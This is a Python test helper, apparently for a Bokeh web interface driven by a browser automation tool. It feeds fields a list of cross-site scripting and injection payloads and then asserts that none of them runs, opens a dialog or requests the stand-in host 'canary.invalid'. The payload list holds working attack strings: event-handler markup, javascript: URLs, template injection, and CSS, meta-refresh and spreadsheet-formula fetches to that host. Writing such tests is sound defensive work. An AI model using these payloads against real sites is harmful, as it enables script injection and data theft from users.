"""Text that would like to be obeyed, and what tells whether it was."""

from __future__ import annotations

import re
from typing import Any

ELSEWHERE = "canary.invalid"
"""No request may go there."""

_TEMPLATES = (
    "<img data-h src=x onerror=RING>",
    "<svg data-h onload=RING></svg>",
    "<svg data-h><animate onbegin=RING attributeName=x dur=1s></svg>",
    "<script data-h>RING</script>",
    "<script data-h src=http://HOST/s></script>",
    '<a data-h href="javascript:RING">there</a>',
    "javascript:RING",
    "JaVa\tScRiPt:RING",
    '<iframe data-h srcdoc="<script>RING</script>"></iframe>',
    "<iframe data-h src=javascript:RING></iframe>",
    "<img data-h src=http://HOST/i>",
    "<style data-h>@import url(http://HOST/c);</style>",
    "<link data-h rel=stylesheet href=http://HOST/l>",
    "x;background:url(http://HOST/b)}:host{background:url(http://HOST/h)",
    '"><img data-h src=x onerror=RING>',
    "'><svg data-h/onload=RING>",
    '" autofocus onfocus=RING data-h="',
    "' onmouseover=RING data-h='",
    "</pre></div></style></title></textarea></script><img data-h src=x onerror=RING>",
    "</script><script data-h>RING</script>",
    "`${RING}`",
    "${RING}",
    "';RING;//",
    "<%= RING %>",
    "{{RING}}",
    "{{constructor.constructor('RING')()}}",
    "{% include 'x' %}",
    "@{x}{safe}<img data-h src=x onerror=RING>",
    "&lt;img data-h src=x onerror=RING&gt;",
    "&amp;lt;img data-h src=x onerror=RING&amp;gt;",
    "&#60;img data-h src=x onerror=RING&#x3e;",
    "\\u003cimg data-h src=x onerror=RING\\u003e",
    r"$$\href{javascript:RING}{x}$$",
    r"\(\href{javascript:RING}{x}\)",
    r"\[\style{background:url(http://HOST/t)}{x}\]",
    r"$\frac$",
    "<math data-h><mtext><table><mglyph><style><img data-h src=x onerror=RING></style></mglyph></table></mtext></math>",
    "<details data-h open ontoggle=RING>x</details>",
    "<form data-h action=http://HOST/f><button autofocus onfocus=RING>x</button></form>",
    "<object data-h data=http://HOST/o></object><embed data-h src=http://HOST/e>",
    "<base data-h href=http://HOST/>",
    '<meta data-h http-equiv=refresh content="0;url=http://HOST/m">',
    "<video data-h><source onerror=RING></video><audio data-h src=x onerror=RING></audio>",
    "<input data-h autofocus onfocus=RING>",
    "<marquee data-h onstart=RING>x</marquee>",
    "<body data-h onload=RING>",
    "<x-y data-h><slot></slot></x-y>",
    "<![CDATA[<img data-h src=x onerror=RING>]]>",
    "![x](http://HOST/p.png) [x](javascript:RING) **x**",
    "\u2028RING\u2029",
    "\u202egnir\u202c\u200b\ufeff",
    "\x1b[31m\x07\x08",
    "null undefined NaN __proto__ [object Object] -0",
    '=HYPERLINK("http://HOST/x")',
    "\U0001f480 \u0130 \ufdfd e\u0301",
    "<!-- <textarea data-h> <plaintext data-h> <style data-h>",
)

PAYLOADS = len(_TEMPLATES)
"""How many there are."""

WATCH = """
window.rung = [];
window.ring = field => { window.rung.push(field); };
for (const name of ["alert", "confirm", "prompt"]) window[name] = () => window.rung.push(name);
addEventListener("securitypolicyviolation", event =>
  window.rung.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile} ${event.sample}`));
"""
"""Runs in each page and frame before anything else."""

_LOOK = """() => {
  const found = {marked: [], words: []};
  const walk = node => {
    for (const one of node.querySelectorAll("*")) {
      const ours = !one.hasAttribute("data-h") && one.localName !== "mjx-container";
      if (!ours) found.marked.push(one.outerHTML.slice(0, 300));
      if (one.shadowRoot) walk(one.shadowRoot);
      if (one.value) found.words.push(String(one.value));
    }
    if (node.querySelector(".MuiCircularProgress-indeterminate")) found.busy = true;
    for (const one of node.children) if (!["STYLE", "SCRIPT"].includes(one.nodeName)) found.words.push(one.textContent);
  };
  walk(document);
  return {busy: found.busy || false, marked: found.marked, rung: window.rung, words: found.words.join(" ")};
}"""

_MODELS = """() => {
  const seen = [];
  const read = (value, depth) => {
    if (typeof value === "string") seen.push(value);
    else if (value === null || typeof value !== "object" || depth > 8) return;
    else if (ArrayBuffer.isView(value) || value.attributes) return;
    else if (value instanceof Map) for (const [key, one] of value) { read(key, depth + 1); read(one, depth + 1); }
    else if (Array.isArray(value)) value.slice(0, 2000).forEach(one => read(one, depth + 1));
    else for (const key of Object.keys(value)) { seen.push(key); read(value[key], depth + 1); }
  };
  for (const document of window.Bokeh?.documents ?? [])
    for (const model of document._all_models.values())
      for (const name of Object.keys(model.attributes)) if (!name.includes("esm")) read(model.attributes[name], 0);
  return seen.join(" ");
}"""
"""All that the server has sent, what is drawn on canvases included."""


class Fields:
    """Hostile text, with a number for each field that holds some: what is obeyed says which one."""

    def __init__(self) -> None:
        self.names: list[str] = []

    def text(self, field: str, first: int | None = None, count: int = PAYLOADS) -> str:
        """Hostile text for a field.

        Args:
            field: its name, for people.
            first: number of the first payload; by default another one for each field.
            count: of payloads.
        """
        if field not in self.names:
            self.names.append(field)
        number = self.names.index(field)
        start = 5 * number if first is None else first
        chosen = (_TEMPLATES[(start + step) % PAYLOADS] for step in range(count))
        return " ".join(chosen).replace("RING", f"top.ring({number})").replace("HOST", f"{ELSEWHERE}/{number}")


class Watch:
    """A page in which nothing of the hostile text may happen, though its content security policy is switched off.

    Args:
        page: of the browser; nothing was opened in it yet.
        fields: that hold the text.
    """

    def __init__(self, page: Any, fields: Fields) -> None:
        self.page, self._fields = page, fields
        self.reached: set[str] = set()
        """Fields whose text has come to the browser, as text."""
        self.looks = 0
        self._happened: list[str] = []
        page.add_init_script(WATCH)
        page.on("dialog", lambda dialog: (self._happened.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("request", lambda request: self._asked(request.url))
        page.on("popup", lambda popup: self._happened.append(f"popup {popup.url}"))

    def look(self, rest: bool = True) -> str:
        """Says what the page holds.

        Args:
            rest: after it has come to rest.

        Raises:
            AssertionError: something happened.
        """
        last, found, rests = "", self.page.evaluate(_LOOK), 0
        for _ in range(60 if rest else 0):
            rests = rests + 1 if found["words"] == last and not found["busy"] else 0
            if rests == 3:
                break
            last = found["words"]
            self.page.wait_for_timeout(120)
            found = self.page.evaluate(_LOOK)
        self.looks += 1
        ran = [f"{self._name(str(number))} ran" for number in found["rung"]]
        happened = [*self._happened, *ran, *(self._named(markup) for markup in found["marked"])]
        assert not happened, f"{len(happened)} hostile texts were obeyed: {happened[:8]}"
        words = f"{found['words']} {self.page.evaluate(_MODELS)}"
        self.reached |= {self._name(number) for number in re.findall(r"top\.ring\((\d+)\)", words)}
        return words

    def _named(self, markup: str) -> str:
        return re.sub(r"top\.ring\((\d+)\)", lambda match: self._name(match[1]), markup)

    def _name(self, number: str) -> str:
        return self._fields.names[int(number)] if number.isdigit() and int(number) < len(self._fields.names) else number

    def _asked(self, url: str) -> None:
        if ELSEWHERE in url.split("?")[0]:
            self._happened.append(f"request {url}")
